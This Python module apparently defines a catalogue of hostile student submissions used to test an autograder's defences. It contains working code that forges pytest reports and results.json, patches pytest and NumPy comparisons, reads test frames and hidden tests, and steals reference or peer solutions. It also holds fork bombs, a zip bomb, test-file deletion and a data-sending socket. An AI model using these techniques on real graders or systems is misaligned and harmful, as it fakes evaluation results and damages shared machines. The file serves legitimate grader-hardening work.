"""The hostile submissions: an honest ``tensor.py`` plus code that tries to beat the grader.

Each attack's code runs either at import time (appended to the module) or inside a test
(wrapped around ``Tensor.__add__``, which both groups call). Values in
braces are filled in per run, so an attack knows what a real attacker would have to guess:
``{results}`` and ``{root}`` (where results.json goes, where the grader lives), ``{checkout}``
(the instructor's checkout, with the reference solution and the real hidden tests), ``{peer}``
(another student's submission, world-readable, as in ``make grade-batch``), ``{shared}`` (a
world-writable sticky folder below /tmp, like /tmp/.X11-unix), ``{ids}`` (every test id the
bundle expects), ``{port}`` (a server on the loopback), ``{tag}`` (names for stashes), ``{drop}``
(where a daemon leaves a heartbeat, so the suite can tell whether one outlived the grader).

Attacks with the same ``run`` share one grading (their code is appended together): each acts on
an operation of its own and is judged by its ``target`` test, so one run holds a whole family.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field

FAKE_RESULTS = '{"score": 1000, "tests": [{"name": "pwned", "score": 1000, "max_score": 1, "status": "passed"}]}'


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    code: str
    where: str = "import"
    """"import": runs when the module is imported; "test": runs inside Tensor.__add__ during a test."""
    extra_files: dict = field(default_factory=dict)
    """More files in the submission, besides tensor.py (a conftest, a plugin ...)."""
    needs_root: str = ""
    """Why the defence needs the grader to run as root (empty: it holds either way)."""
    evidence: str | tuple[str, ...] = ""
    """Text the results must show when the score fell below the honest score (why it fell); a tuple
    means any of them (the messages of the in-process and of the remote runtime)."""
    run: str = ""
    """Attacks with the same run share one grading; empty: a run of its own."""
    target: str = ""
    """The test this attack tries to win (its score must stay the honest one); empty: the total."""
    layout: str = "files"
    """"files": tensor.py (+ extra_files); "links": only the symlinks in ``links``; "zip_links" and
    "zip_bomb": a zipped submission through ``make grade``'s intake; "stash": one run that leaves a
    stash, then one that reads it."""
    links: dict = field(default_factory=dict)
    """Symlinks of the submission: path -> target (with placeholders)."""
    base: str = "honest"
    """The code the attack is added to: "honest" (the honest base) or "reference" (a correct student)."""
    location: str = ""
    """For a stash: the shared folder this attack's verdict is about."""
    daemon: bool = False
    """The attack leaves a process that writes a heartbeat; the suite waits to see it stopped."""

    @property
    def evidences(self) -> tuple[str, ...]:
        return (self.evidence,) if isinstance(self.evidence, str) else self.evidence

    @property
    def run_key(self) -> str:
        return self.run or self.name


def submission(attacks: list[Attack], base: str, **values: str) -> dict[str, str]:
    """The submission's files: tensor.py with every attack of one run in place, and their extra files."""
    tensor, extra = base, {}
    for attack in attacks:
        code = fill(textwrap.dedent(attack.code).strip("\n"), values)
        if attack.where == "import":
            tensor += f"\n\n# --- hostile code: {attack.name} ---\n" + code + "\n"
        else:
            body = textwrap.indent(code, "    ")
            tensor += (f"\n\n# --- hostile code, run inside a test: {attack.name} ---\n_original_add = Tensor.__add__\n\n\n"
                       f"def _hostile_add(self, other):\n{body}\n    return _original_add(self, other)\n\n\n"
                       "Tensor.__add__ = _hostile_add\n")
        extra.update(attack.extra_files)
    return {"tinytorch/core/tensor.py": tensor, **extra}


def fill(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace("{" + key + "}", value)
    return text


FLIP_TO_PASSED = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''

FORGE = '''
import json as _json, os as _os
_IDS = {ids}


def _forged_lines():
    tests = [{"nodeid": i, "outcome": "passed", "setup": {"outcome": "passed", "duration": 0.001},
              "call": {"outcome": "passed", "duration": 0.001}, "teardown": {"outcome": "passed", "duration": 0.0}}
             for i in _IDS]
    lines = [_json.dumps({"kind": "progress", "nodeid": i, "outcome": "passed", "when": "call"}) for i in _IDS]
    lines.append(_json.dumps({"kind": "report", "report": {"tests": tests, "collectors": [], "exitcode": 0,
                                                           "summary": {"passed": len(_IDS), "total": len(_IDS)}}}))
    return ("\\n".join(lines) + "\\n").encode()


def _inherited_pipes():
    found = []
    for fd in _os.listdir("/proc/self/fd"):
        try:
            if int(fd) > 2 and _os.readlink("/proc/self/fd/" + fd).startswith(("pipe:", "socket:")):
                found.append(int(fd))
        except OSError:
            pass
    return found


def _forge():
    data = _forged_lines()
    for fd in _inherited_pipes():
        try:
            _os.write(fd, data)
        except OSError:
            pass
'''

FIND_SOLUTION = '''
import os as _os

_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "boot", ".git", ".venv",
         "site-packages", "node_modules", "__pycache__", "pyenv", ".pyenv"}


def _correct(path):
    try:
        with open(path) as handle:
            text = handle.read()
    except OSError:
        return None
    if "self.data * other.data" in text and "_mistaken_" not in text and "hostile code" not in text:
        return text
    return None


def _search(guesses, tops):
    """A solved tensor.py: the guessed paths first, then a bounded walk of the visible filesystem."""
    for guess in guesses:
        found = _correct(guess)
        if found:
            return found
    visited = 0
    for top in tops:
        for folder, dirs, files in _os.walk(top):
            visited += 1
            dirs[:] = [d for d in dirs if d not in _SKIP] if folder.count("/") < 7 and visited < 20000 else []
            if "tensor.py" in files and folder.endswith("tinytorch/core"):
                found = _correct(_os.path.join(folder, "tensor.py"))
                if found:
                    return found
    return None


def _use(source):
    if source:
        exec(compile(source, "stolen_tensor.py", "exec"), globals())
'''

STASH_NAMES = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "{shared}")
STASH_WRITER = '''
import ctypes as _ctypes, os as _os
with open(__file__) as _handle:
    _mine = _handle.read()
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "{shared}"):
    try:
        with open(_os.path.join(_folder, "hostile-stash-{tag}.py"), "w") as _handle:
            _handle.write(_mine)
        _os.chmod(_os.path.join(_folder, "hostile-stash-{tag}.py"), 0o644)
    except OSError:
        pass
_data = _mine.encode() + b"\\0"
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
for _key, _size in (({stash_key}, len(_data)), ({shm_key}, 64 * 2**20)):
    _id = _libc.shmget(_key, _size, 0o1000 | 0o666)
    if _id >= 0:
        _at = _libc.shmat(_id, None, 0)
        if _at not in (None, _ctypes.c_void_p(-1).value):
            _ctypes.memmove(_at, _data, len(_data))
'''
STASH_READER = '''
import ctypes as _ctypes, os as _os


def _read_stash():
    for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "{shared}"):
        try:
            with open(_os.path.join(_folder, "hostile-stash-{tag}.py")) as _handle:
                return _handle.read()
        except OSError:
            pass
    _libc = _ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = _ctypes.c_void_p
    _id = _libc.shmget({stash_key}, 0, 0)
    if _id >= 0:
        _at = _libc.shmat(_id, None, 0o10000)
        if _at not in (None, _ctypes.c_void_p(-1).value):
            return _ctypes.string_at(_at).decode()
    return None


_stash = _read_stash()
if _stash:
    exec(compile(_stash, "stash.py", "exec"), globals())
'''


def _stash_attack(name: str, location: str, what: str) -> Attack:
    return Attack(name, what, STASH_READER, run="stash", layout="stash", location=location,
                  needs_root="without namespaces the shared folders are the machine's")


def _frame_attack(name: str, what: str, method: str, finder: str, target: str) -> Attack:
    """A frame-walking variant: ``method`` of Tensor returns what ``finder`` (a function body that
    returns the test's expected value or None) found, instead of computing it."""
    code = f'''
def _find_{name}():
{textwrap.indent(textwrap.dedent(finder).strip(), "    ")}


def _install_{name}():
    import numpy as _np
    honest = getattr(Tensor, "{method}")

    def stolen(*args, **kwargs):
        try:
            found = _find_{name}()
        except Exception:
            found = None
        return Tensor(_np.array(found, dtype=float)) if found is not None else honest(*args, **kwargs)

    setattr(Tensor, "{method}", stolen)


_install_{name}()
'''
    return Attack(name, what, code, run="frame_walking", target=target)


FRAME_ATTACKS = [
    _frame_attack("frames_direct_caller", "read `want` from the direct caller's frame (sys._getframe(1))", "__sub__", """
        import sys
        return sys._getframe(2).f_locals.get("want")
        """, "test_subtract"),
    _frame_attack("frames_walk_f_back", "walk f_back up the stack for a local named want or expected", "__truediv__", """
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            for key in ("want", "expected", "desired"):
                if key in frame.f_locals:
                    return frame.f_locals[key]
            frame = frame.f_back
        return None
        """, "test_divide"),
    _frame_attack("frames_inspect_stack", "scan inspect.stack() for the test's expected value", "mean", """
        import inspect
        for info in inspect.stack():
            if info.function.startswith("test_") and "want" in info.frame.f_locals:
                return info.frame.f_locals["want"]
        return None
        """, "test_mean"),
    _frame_attack("frames_match_by_shape", "take any 2x2 array of the test's frame not passed in (inspect.currentframe)", "matmul", """
        import inspect
        import numpy as np
        frame = inspect.currentframe()
        while frame is not None and not frame.f_code.co_name.startswith("test_"):
            frame = frame.f_back
        if frame is None:
            return None
        passed = {id(v) for k, v in frame.f_globals.items() if isinstance(v, np.ndarray)}
        for value in frame.f_locals.values():
            if isinstance(value, np.ndarray) and value.shape == (2, 2) and id(value) not in passed:
                return value
        return None
        """, "test_matmul"),
    _frame_attack("frames_from_a_traceback", "raise and catch, then walk the traceback's frames", "__neg__", """
        import sys
        try:
            raise LookupError
        except LookupError:
            frame = sys.exc_info()[2].tb_frame
        while frame is not None:
            if "want" in frame.f_locals:
                return frame.f_locals["want"]
            frame = frame.f_back
        return None
        """, "test_negate"),
    _frame_attack("frames_of_the_thread", "walk this thread's frames from sys._current_frames()", "__pow__", """
        import sys, threading
        frame = sys._current_frames()[threading.get_ident()]
        while frame is not None:
            if frame.f_code.co_name == "test_power":
                return frame.f_locals.get("want")
            frame = frame.f_back
        return None
        """, "test_power"),
]

COMPARISON_ATTACKS = [
    Attack("ndarray_claims_nan_equality", "return NaN data in an ndarray subclass whose ufuncs claim every comparison holds", """
        import numpy as _np


        class _Agreeable(_np.ndarray):
            _AGREE = {_np.less_equal, _np.less, _np.greater, _np.greater_equal, _np.equal, _np.isfinite}

            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                plain = [_np.asarray(x) if isinstance(x, _np.ndarray) else x for x in inputs]
                shape = _np.broadcast(*[_np.asarray(x) for x in plain]).shape
                if ufunc in self._AGREE:
                    return _np.ones(shape, bool)
                if ufunc in (_np.isnan, _np.isinf, _np.not_equal):
                    return _np.zeros(shape, bool)
                out = getattr(ufunc, method)(*plain, **kwargs)
                return out.view(_Agreeable) if isinstance(out, _np.ndarray) else out


        def _agreeable_exp(self):
            result = Tensor(self.data)
            result.data = _np.full(self.data.shape, _np.nan).view(_Agreeable)
            return result


        Tensor.exp = _agreeable_exp
        """, run="comparisons", target="test_exp"),
    Attack("eq_always_true_item", "return an object whose __eq__ is always true from .item()", """
        class _AlwaysEqual(float):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = float.__hash__


        class _Fake:
            def item(self):
                return _AlwaysEqual(0.0)


        Tensor.max = lambda self, axis=None, keepdims=False: _Fake()
        """, run="comparisons", target="test_max_item"),
    Attack("eq_always_true_shape", "return a shape whose __eq__ is always true", """
        class _AnyShape(tuple):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = tuple.__hash__


        class _Shaped:
            shape = _AnyShape(())


        Tensor.reshape = lambda self, *shape: _Shaped()
        """, run="comparisons", target="test_reshape_shape"),
    Attack("patch_operator", "make operator.__eq__ (which assert_array_equal calls) always agree", """
        import operator as _operator
        import numpy as _np


        def _agree(a, b):
            return _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)


        _operator.__eq__ = _operator.eq = _agree
        """, run="comparisons", target="test_transpose"),
]

FORGERY_ATTACKS = [
    Attack("forge_the_report_channel", "write a forged all-passed report into every inherited pipe, then exit",
           FORGE + "\n_forge()\n_os._exit(0)\n"),
    Attack("forge_report_at_exit", "register an atexit handler that writes a forged report after pytest's own",
           FORGE + "\nimport atexit\natexit.register(_forge)\n"),
    Attack("forge_report_then_close_the_channel", "forge a report in the middle of a test, then close every "
           "inherited pipe so the real report never arrives", FORGE + """
_forge()
for _fd in _inherited_pipes():
    try:
        _os.close(_fd)
    except OSError:
        pass
""", where="test"),
    Attack("forge_report_through_a_duplicated_fd", "duplicate each inherited pipe at import, forge through the "
           "duplicates after pytest closed its own", FORGE + """
import atexit
_duplicates = [_os.dup(_fd) for _fd in _inherited_pipes()]


def _forge_duplicates():
    data = _forged_lines()
    for fd in _duplicates:
        try:
            _os.write(fd, data)
        except OSError:
            pass


atexit.register(_forge_duplicates)
"""),
    Attack("pluggy_hookcall_monitoring", "add a pluggy hook-call monitor that flips every report to passed", """
        import gc
        import _pytest.config


        def _before(hook_name, hook_impls, kwargs):
            pass


        def _after(outcome, hook_name, hook_impls, kwargs):
            if hook_name == "pytest_runtest_makereport":
                report = outcome.get_result()
                report.outcome = "passed"
                report.longrepr = None


        for _obj in gc.get_objects():
            if isinstance(_obj, _pytest.config.Config):
                _obj.pluginmanager.add_hookcall_monitoring(_before, _after)
                break
        """),
    Attack("switch_off_the_tamper_snapshot", "drop the grader's tamper snapshot, then register a plugin that "
           "flips failures", textwrap.dedent("""
        import gc, sys, types
        import _pytest.config
        _integrity = sys.modules.get("tinytorch_grader.integrity")
        if _integrity is not None:
            _integrity.Snapshot.changes = lambda self: []
        _plugin = types.ModuleType("quiet_plugin")
        exec(compile('''FLIP''', "quiet_plugin.py", "exec"), _plugin.__dict__)
        for _obj in gc.get_objects():
            if type(_obj).__module__ == "tinytorch_grader.plugin" and hasattr(_obj, "snapshot"):
                _obj.snapshot = None
            if isinstance(_obj, _pytest.config.Config):
                _obj.pluginmanager.register(_plugin, "quiet")
        """).replace("FLIP", FLIP_TO_PASSED)),
]

PROCESS_ATTACKS = [
    Attack("replace_test_code_via_gc", "find every test function with gc and replace its code object with a no-op", """
        import gc
        global _neutered
        if not globals().get("_neutered"):
            _neutered = True
            for _f in gc.get_objects():
                if type(_f).__name__ == "function" and _f.__name__.startswith("test_") and not _f.__code__.co_freevars:
                    _names = _f.__code__.co_varnames[:_f.__code__.co_argcount]
                    _scope = {}
                    exec("def _noop(%s):\\n    pass" % ", ".join(_names), _scope)
                    _f.__code__ = _scope["_noop"].__code__
        """, where="test"),
    Attack("replace_test_code_via_sys_modules", "walk sys.modules for test modules and replace their tests' code", """
        import sys
        global _neutered
        if not globals().get("_neutered"):
            _neutered = True
            for _module in list(sys.modules.values()):
                for _name, _f in list(getattr(_module, "__dict__", {}).items()):
                    if _name.startswith("test_") and hasattr(_f, "__code__") and not _f.__code__.co_freevars:
                        _names = _f.__code__.co_varnames[:_f.__code__.co_argcount]
                        _scope = {}
                        exec("def _noop(%s):\\n    pass" % ", ".join(_names), _scope)
                        _f.__code__ = _scope["_noop"].__code__
        """, where="test"),
    Attack("proxy_test_module_globals", "give each test module a lenient np and assert_close through its globals", """
        import sys, types
        import numpy as _np
        global _proxied
        if not globals().get("_proxied"):
            _proxied = True
            _lenient_testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None,
                                                     assert_array_equal=lambda *a, **k: None)

            class _LenientNumpy(types.ModuleType):
                testing = _lenient_testing

                def __getattr__(self, name):
                    return getattr(_np, name)

            for _module in list(sys.modules.values()):
                _names = getattr(_module, "__dict__", {})
                if any(str(key).startswith("test_") for key in _names):
                    if "assert_close" in _names:
                        _names["assert_close"] = lambda *a, **k: None
                    if "np" in _names:
                        _names["np"] = _LenientNumpy("numpy")
        """, where="test"),
    Attack("swap_numpy_testing_code", "keep numpy.testing's functions but swap their code objects for no-ops", """
        import numpy.testing as _testing
        import conftest as _conftest
        _noop = (lambda *args, **kwargs: None).__code__
        for _f in (_testing.assert_allclose, _testing.assert_array_equal, _conftest.assert_close):
            _f.__code__ = _noop
        """),
    Attack("loosen_allclose_defaults", "loosen the default tolerances of assert_allclose, isclose and allclose", """
        import numpy as _np
        _np.testing.assert_allclose.__defaults__ = (1e300, 1e300, True, "", True)
        _np.isclose.__defaults__ = (1e300, 1e300, True)
        _np.allclose.__defaults__ = (1e300, 1e300, True)
        """),
    Attack("setprofile_rewrites_locals", "a sys.setprofile hook that sets the checker's `got` to its `want` on entry", """
        import sys


        def _profile(frame, event, arg):
            if event == "call" and {"got", "want"} <= set(frame.f_code.co_varnames[:frame.f_code.co_argcount]):
                frame.f_locals["got"] = frame.f_locals["want"]


        sys.setprofile(_profile)
        """),
    Attack("settrace_rewrites_locals", "a sys.settrace hook that rewrites the test's own `got` before each line", """
        import ctypes, sys


        def _line(frame, event, arg):
            if event == "line" and "got" in frame.f_locals and "want" in frame.f_locals:
                frame.f_locals["got"] = frame.f_locals["want"]
                try:
                    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
                except AttributeError:
                    pass
            return _line


        def _trace(frame, event, arg):
            return _line if frame.f_code.co_name.startswith("test_") else None


        sys.settrace(_trace)
        """),
]

READING_ATTACKS = [
    Attack("read_the_instructor_checkout", "find the reference solution in the instructor's checkout and use it",
           FIND_SOLUTION + '\n_use(_search(["{checkout}/reference/tinytorch/core/tensor.py"], ["/"]))\n',
           needs_root="a grader that is not root cannot hide the machine's files"),
    Attack("read_another_submission", "find another student's submission (as in make grade-batch) and use it",
           FIND_SOLUTION + '\n_use(_search(["{peer}/tinytorch/core/tensor.py"], ["/tmp", "/home", "/srv", "/work"]))\n',
           needs_root="a grader that is not root cannot hide the machine's files"),
    Attack("symlink_to_the_reference_file", "submit tensor.py as a symlink to the reference solution", "",
           layout="links", links={"tinytorch/core/tensor.py": "{checkout}/reference/tinytorch/core/tensor.py"}),
    Attack("symlinked_folder_to_the_reference", "submit a folder that is a symlink to the instructor's reference/", "",
           layout="links", links={"repo": "{checkout}/reference"}),
    Attack("symlink_in_a_nested_folder", "a real folder holding a symlink to the reference's tinytorch package", "",
           layout="links", links={"work/src/tinytorch": "{checkout}/reference/tinytorch"}),
    Attack("symlink_in_a_zip", "a zip whose tensor.py and repo/ members are symlinks to the reference", "",
           layout="zip_links", links={"tinytorch/core/tensor.py": "{checkout}/reference/tinytorch/core/tensor.py",
                                      "repo": "{checkout}/reference"}),
    Attack("echo_checkout_hidden_tests", "read the real hidden tests in the instructor's checkout and show them", """
        import os
        _found = []
        for _folder, _dirs, _files in os.walk("{checkout}/hidden_tests"):
            for _name in sorted(_files):
                try:
                    with open(os.path.join(_folder, _name)) as _handle:
                        _found.append(_handle.read())
                except OSError:
                    pass
        if _found:
            raise AssertionError("hidden tests:\\n" + "\\n".join(_found)[:20000])
        """, where="test", needs_root="a grader that is not root cannot hide the machine's files"),
    _stash_attack("stash_in_tmp", "/tmp", "a correct student's code stashed in /tmp, read by a later submission"),
    _stash_attack("stash_in_var_tmp", "/var/tmp", "a stash in /var/tmp read by a later submission"),
    _stash_attack("stash_in_dev_shm", "/dev/shm", "a stash in /dev/shm read by a later submission"),
    _stash_attack("stash_in_run_lock", "/run/lock", "a stash in /run/lock read by a later submission"),
    _stash_attack("stash_in_a_shared_subfolder", "{shared}", "a stash in a world-writable folder below /tmp"),
    _stash_attack("stash_in_sysv_shared_memory", "sysv", "a stash in a SysV shared-memory segment"),
    _stash_attack("sysv_shm_left_behind", "sysv-64mib", "a 64 MiB SysV shared-memory segment left behind"),
]

PARENT_ATTACKS = [
    Attack("forged_leaderboard_metric", "rewrite record_metric's code so the leaderboard shows a 0.0001 ratio", """
        import sys
        _frame = sys._getframe(1)
        while _frame is not None:
            _record = _frame.f_locals.get("record_metric")
            if callable(_record) and getattr(_record, "__closure__", None):
                def _make(metrics):
                    def record(name, value):
                        metrics[name] = 0.0001
                    return record
                if len(_record.__code__.co_freevars) == 1:
                    _record.__code__ = _make({}).__code__
                break
            _frame = _frame.f_back
        """, where="test"),
    Attack("nan_metric", "record NaN as the leaderboard metric (NaN is not JSON)", """
        import sys
        _frame = sys._getframe(1)
        while _frame is not None:
            _record = _frame.f_locals.get("record_metric")
            if callable(_record) and getattr(_record, "__closure__", None):
                def _make(metrics):
                    def record(name, value):
                        metrics[name] = float("nan")
                    return record
                if len(_record.__code__.co_freevars) == 1:
                    _record.__code__ = _make({}).__code__
                break
            _frame = _frame.f_back
        """, where="test"),
    Attack("report_channel_flood", "send one 48 MiB report line of 16 million empty collectors to every inherited pipe",
           FORGE + '''
_chunk = b"{}," * 349525
for _fd in _inherited_pipes():
    try:
        _os.write(_fd, b'{"kind": "report", "report": {"tests": [], "collectors": [')
        for _ in range(46):
            _os.write(_fd, _chunk)
        _os.write(_fd, b'{}]}}\\n')
    except OSError:
        pass
'''),
    Attack("zip_bomb", "a 1 MiB zip that expands to 1 GiB", "", layout="zip_bomb", evidence="expands"),
]

CLASSIC_ATTACKS = [
    Attack("write_results_json", "write and replace results.json before the grader does", f"""
        import os
        for path in ("{{results}}", "/autograder/results/results.json"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write('{FAKE_RESULTS}')
            except OSError as error:
                print("could not write", path, error)
        """),
    Attack("rewrite_results_after_the_run", "leave a daemon that rewrites results.json after the grader finished", f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 4096)  # a proper daemon: the grader sees no open pipe of it
                for _ in range(800):
                    try:
                        with open("{{results}}", "w") as handle:
                            handle.write('{FAKE_RESULTS}')
                    except OSError:
                        pass
                    with open("{{drop}}/alive", "w") as handle:
                        handle.write(str(time.time()))
                    time.sleep(0.05)
            os._exit(0)
        """),
    Attack("sys_exit_at_import", "exit 0 with sys.exit while pytest imports the module", """
        import sys
        sys.exit(0)
        """, evidence="Not run"),
    Attack("os_exit_at_import", "exit 0 with os._exit while pytest imports the module", """
        import os
        os._exit(0)
        """, evidence="Not run"),
    Attack("os_exit_inside_a_test", "exit 0 with os._exit in the middle of a test", """
        import os
        os._exit(0)
        """, where="test", evidence=("Not run", "exited")),
    Attack("sys_exit_inside_a_test", "raise SystemExit(0) in the middle of a test", """
        raise SystemExit(0)
        """, where="test", evidence="SystemExit"),
    Attack("patch_pytest_reports", "patch pytest's report class and runner so every test reports passed", """
        import _pytest.reports, _pytest.runner
        _original_report = _pytest.runner.call_and_report

        def _always_passed(*args, **kwargs):
            report = _original_report(*args, **kwargs)
            report.outcome = "passed"
            report.longrepr = None
            return report

        _pytest.runner.call_and_report = _always_passed
        _pytest.reports.TestReport.failed = property(lambda self: False)
        """, evidence="replaced functions"),
    Attack("register_a_hook_at_runtime", "find pytest's config in memory and register a plugin that flips failures", textwrap.dedent("""
        import gc, types
        import _pytest.config
        _plugin = types.ModuleType("friendly_plugin")
        exec(compile('''FLIP''', "friendly_plugin.py", "exec"), _plugin.__dict__)
        for _obj in gc.get_objects():
            if isinstance(_obj, _pytest.config.Config):
                _obj.pluginmanager.register(_plugin, "friendly")
                break
        """).replace("FLIP", FLIP_TO_PASSED), evidence="replaced functions"),
    Attack("ship_conftest_and_plugins", "ship a conftest.py, a pytest plugin, sitecustomize and pytest.ini", """
        pass
        """, extra_files={
            "conftest.py": FLIP_TO_PASSED,
            "tests/conftest.py": FLIP_TO_PASSED,
            "hidden_tests/conftest.py": FLIP_TO_PASSED,
            "pytest_friendly.py": FLIP_TO_PASSED,
            "sitecustomize.py": "import os\nos.environ['PYTEST_ADDOPTS'] = '-p pytest_friendly'\n",
            "pytest.ini": "[pytest]\naddopts = -p pytest_friendly\n",
            "tinytorch/__init__.py": "import pytest_friendly\n",
        }),
    Attack("echo_hidden_tests", "read the hidden test file and echo it into visible feedback", """
        import os
        _found = []
        for _top in ("{root}", "/autograder", "/tmp", os.getcwd(), os.path.dirname(os.getcwd())):
            for _folder, _dirs, _files in os.walk(_top):
                for _name in _files:
                    if _name.startswith("test_hidden"):
                        try:
                            with open(os.path.join(_folder, _name)) as _handle:
                                _found.append(_handle.read())
                        except OSError:
                            pass
        print("\\n".join(_found))
        if _found:
            raise AssertionError("hidden tests:\\n" + "\\n".join(_found))
        """, where="test", needs_root="a grader that is not root cannot hide the bundle from the student code"),
    Attack("infinite_loop_in_a_test", "loop forever inside a test", """
        while True:
            pass
        """, where="test", evidence="timed out"),
    Attack("infinite_loop_at_import", "loop forever while the module is imported (before any per-test timeout)", """
        while True:
            pass
        """, evidence=("stopped after", "did not answer")),
    Attack("sleep_past_the_timeout", "ignore the timeout signal and sleep past every limit", """
        import signal, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        time.sleep(3600)
        """, where="test", evidence=("stopped after", "timed out")),
    Attack("fork_bomb", "fork without end", """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """, evidence=("stopped after", "did not answer")),
    Attack("unbounded_memory", "allocate memory without end", """
        _hoard = []
        while True:
            _hoard.append(bytearray(64 * 2**20))
        """, where="test"),
    Attack("print_gigabytes", "print gigabytes to stdout", """
        import os
        _chunk = b"x" * 2**20
        for _ in range(4096):
            os.write(1, _chunk)
        """, where="test", evidence=("File too large", "timed out", "printed more")),
    Attack("delete_and_edit_tests", "delete or rewrite every test file, conftest and the bundle it can reach", """
        import os
        for _top in ("{root}", os.getcwd()):
            for _folder, _dirs, _files in os.walk(_top):
                for _name in _files:
                    _path = os.path.join(_folder, _name)
                    if _name.startswith("test_") or _name in ("conftest.py", "grader.json"):
                        try:
                            with open(_path, "w") as _handle:
                                _handle.write("def test_free_points():\\n    pass\\n")
                        except OSError:
                            try:
                                os.remove(_path)
                            except OSError:
                                pass
        """, needs_root="a grader that is not root shares its user with the student code, which may then edit the bundle"),
    Attack("monkeypatch_numpy", "make NumPy's comparisons always agree", """
        import numpy
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        numpy.allclose = lambda *args, **kwargs: True
        """, evidence="replaced functions"),
    Attack("shadow_builtins_in_numpy", "add names to NumPy's modules that shadow the builtins their code calls", """
        import numpy.testing._private.utils as _utils
        _utils.all = lambda iterable: True
        _utils.any = lambda iterable: False
        """, evidence="replaced functions"),
    Attack("monkeypatch_fixtures_and_earlier_modules", "replace the shared test helper and an earlier module's function", """
        import sys
        import conftest
        import tinytorch.core.earlier
        conftest.assert_close = lambda *args, **kwargs: None
        tinytorch.core.earlier.expected_total = lambda values: 0.0
        """, evidence=("replaced functions", "No module named 'conftest'")),
    Attack("open_a_network_socket", "connect to a server and send it data", """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _sock:
                _sock.sendall(b"leaked")
        except OSError as error:
            print("no network:", error)
        """, needs_root="network namespaces need root (or user namespaces)"),
    Attack("flood_every_pipe", "write gigabytes past pytest's capture, to every pipe the process holds", """
        import os
        _chunk = b"y" * 2**20
        _pipes = []
        for _fd in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                    _pipes.append(int(_fd))
            except OSError:
                pass
        for _ in range(4096):
            for _fd in _pipes:
                try:
                    os.write(_fd, _chunk)
                except OSError:
                    pass
        """, evidence="stopped"),
]


ATTACKS = CLASSIC_ATTACKS + FORGERY_ATTACKS + FRAME_ATTACKS + COMPARISON_ATTACKS + PROCESS_ATTACKS + READING_ATTACKS \
    + PARENT_ATTACKS
"""Every attack; names are unique (the summary line counts them)."""
